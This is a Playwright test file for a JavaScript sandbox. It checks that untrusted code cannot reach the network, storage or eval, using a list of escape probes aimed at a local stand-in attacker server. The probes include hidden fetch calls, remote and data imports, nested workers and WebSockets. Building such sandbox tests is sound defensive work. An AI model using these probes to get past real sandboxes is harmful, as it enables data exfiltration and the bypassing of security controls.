// A hostile body reaches nothing. Every network probe is first run where nothing holds it back, and must reach the
// attacker's server there: a probe that cannot succeed proves nothing.

import { expect, test } from '@playwright/test';
import { outcomes, run, serveHarness } from './drive-harness.ts';
import { type Served, startAttacker } from './serve.ts';

let app: Served;
let attacker: Served;
test.beforeAll(async () => {
  app = await serveHarness();
  attacker = await startAttacker();
});
test.afterAll(async () => {
  await app.close();
  await attacker.close();
});

/** Statements that each try to reach `U`; `W` is the same address for sockets. */
const probes: Readonly<Record<string, string>> = {
  fetch: 'await fetch(U + "/fetch")',
  'fetch without cors': 'await fetch(U + "/no-cors", { mode: "no-cors" })',
  'fetch kept alive': 'await fetch(U + "/keepalive", { keepalive: true, mode: "no-cors" })',
  'a request object': 'await fetch(new Request(U + "/request", { mode: "no-cors" }))',
  'wasm streaming': 'await WebAssembly.compileStreaming(fetch(U + "/wasm"))',
  XMLHttpRequest:
    'await new Promise((done) => { const x = new XMLHttpRequest(); x.open("GET", U + "/xhr"); x.onloadend = done; x.send(); })',
  'synchronous XMLHttpRequest':
    'const x = new XMLHttpRequest(); x.open("GET", U + "/xhr-sync", false); x.send();',
  WebSocket:
    'await new Promise((done) => { const s = new WebSocket(W + "/ws"); s.onerror = s.onopen = done; })',
  EventSource:
    'await new Promise((done) => { const s = new EventSource(U + "/events"); s.onerror = () => { s.close(); done(); }; })',
  importScripts: 'importScripts(U + "/import-scripts")',
  'remote import': 'await import(U + "/import")',
  'import in data':
    'await import("data:text/javascript," + encodeURIComponent("import " + JSON.stringify(U + "/data-import")))',
  'nested worker':
    'await new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(U + "/nested") + ").finally(() => postMessage(1))"]))); w.onmessage = w.onerror = done; })',
  'font face': 'await new FontFace("x", "url(" + U + "/font)").load()',
  'fetch by another name': 'await Reflect.get(globalThis, "fet" + "ch")(U + "/by-name")',
  'fetch of the prototype':
    'let p = globalThis; while (p) { const f = Object.getOwnPropertyDescriptor(p, "fetch"); if (f) { await f.value.call(globalThis, U + "/proto"); break; } p = Object.getPrototypeOf(p); }',
};

const guarded = (probe: string): string =>
  `(async () => { const U = ${JSON.stringify(attacker.url)}, W = ${JSON.stringify(attacker.url.replace('http', 'ws'))};
    try { ${probe}; return "reached"; } catch (error) { return String(error); } })`;

test('each network probe reaches the attacker from a plain worker', async ({ page }) => {
  await page.goto(`${app.url}/plain.html`);
  for (const [name, probe] of Object.entries(probes)) {
    attacker.takeHits();
    await page.evaluate(
      (text) =>
        new Promise<void>((resolve) => {
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = () => resolve();
          setTimeout(resolve, 3000);
        }),
      `${guarded(probe)}().then(() => postMessage(1))`,
    );
    expect(attacker.takeHits().length, name).toBeGreaterThan(0);
  }
});

test('no network probe reaches anybody from a body', async ({ page }) => {
  await page.goto(app.url);
  expect(outcomes(await run(page, ['() => 1']))).toEqual([1]);
  attacker.takeHits();
  app.takeHits();
  for (const [name, probe] of Object.entries(probes)) {
    const [answer] = outcomes(await run(page, [guarded(probe)], { lane: name }));
    console.log(`  ${name}: ${String(answer).slice(0, 150)}`);
    expect(answer, name).not.toBe('reached');
  }
  // Also the app's own origin, which the page's policy alone would let a frame ask.
  const [own] = outcomes(
    await run(page, [`async () => { await import(${JSON.stringify(`${app.url}/index.html`)}); }`]),
  );
  expect(own).toMatch(/Failed to fetch dynamically imported module/);
  expect(attacker.takeHits()).toEqual([]);
  expect(app.takeHits()).toEqual([]);
});

test('a body that asks for the network reads why it cannot', async ({ page }) => {
  await page.goto(app.url);
  expect(
    outcomes(
      await run(page, [
        'async () => { await fetch("https://example.com"); }',
        '() => { new WebSocket("wss://example.com"); }',
        '() => { new Worker("x.js"); }',
        'async () => { await caches.open("x"); }',
        '() => { indexedDB.open("x"); }',
        '() => { new BroadcastChannel("x"); }',
        'async () => { await navigator.storage.getDirectory(); }',
      ]),
    ),
  ).toEqual([
    'Error: This project has no network grant: fetch is not available in a body.',
    'Error: This project has no network grant: WebSocket is not available in a body.',
    'Error: A body cannot start threads or load scripts: Worker is not available.',
    'Error: A body cannot store anything itself: caches is not available. What it returns is stored.',
    'Error: A body cannot store anything itself: indexedDB is not available. What it returns is stored.',
    'Error: A body cannot talk to other bodies: BroadcastChannel is not available.',
    'Error: A body cannot store anything itself: navigator.storage is not available. What it returns is stored.',
  ]);
});

test('text cannot become code in a body', async ({ page }) => {
  await page.goto(app.url);
  const answers = outcomes(
    await run(page, [
      '() => (0, eval)("1")',
      '() => new Function("return 1")()',
      '() => (async () => {}).constructor("return 1")()',
      '() => setTimeout("1")',
      'async () => { await import("data:text/javascript,export default 1"); }',
      '() => { URL.createObjectURL(new Blob(["1"])); }',
    ]),
  );
  expect(answers).toHaveLength(6);
  for (const answer of answers) expect(answer).toMatch(/^(EvalError|TypeError)/);
});

test('a body that was let out of its words is still held by the frame', async ({ page }) => {
  // The words are taken away: a bare worker in a frame with the same two policies.
  await page.goto(app.url);
  attacker.takeHits();
  const answers = await page.evaluate(
    async ({ probes: texts }) => {
      const policy = document.querySelector('meta[http-equiv]')?.getAttribute('content') ?? '';
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      // The runner's own document, as the page made it, is already in the page: take its address.
      frame.src = (document.querySelector('iframe') as HTMLIFrameElement).src;
      const { port1, port2 } = new MessageChannel();
      await new Promise((resolve) => {
        frame.onload = resolve;
        document.body.append(frame);
      });
      const said: unknown[] = [policy !== ''];
      const lane = new MessageChannel();
      const script = `onmessage = async ({ data: { port } }) => { const out = []; ${texts
        .map(
          (text) =>
            `out.push(await Promise.race([${text}(), new Promise((r) => setTimeout(r, 1500, "waiting"))]));`,
        )
        .join('\n')} port.postMessage(out); };`;
      frame.contentWindow?.postMessage({ type: 'start', workerText: script }, '*', [port2]);
      port1.postMessage({ type: 'spawn', lane: 1, port: lane.port2 }, [lane.port2]);
      said.push(
        ...(await new Promise<unknown[]>((resolve) => {
          lane.port1.onmessage = ({ data }) => resolve(data as unknown[]);
        })),
      );
      frame.remove();
      return said;
    },
    {
      probes: [
        ...Object.values(probes).map(guarded),
        ...[
          'const r = indexedDB.open("x"); await new Promise((ok, no) => { r.onsuccess = ok; r.onerror = () => no(r.error); })',
          'await caches.open("x")',
          'await navigator.locks.request("x", () => 1)',
          'await navigator.storage.getDirectory()',
        ].map(guarded),
      ],
    },
  );
  console.log(answers.map((answer) => `  ${String(answer).slice(0, 120)}`).join('\n'));
  expect(attacker.takeHits()).toEqual([]);
  for (const answer of answers.slice(-4)) expect(answer).not.toBe('reached');
});
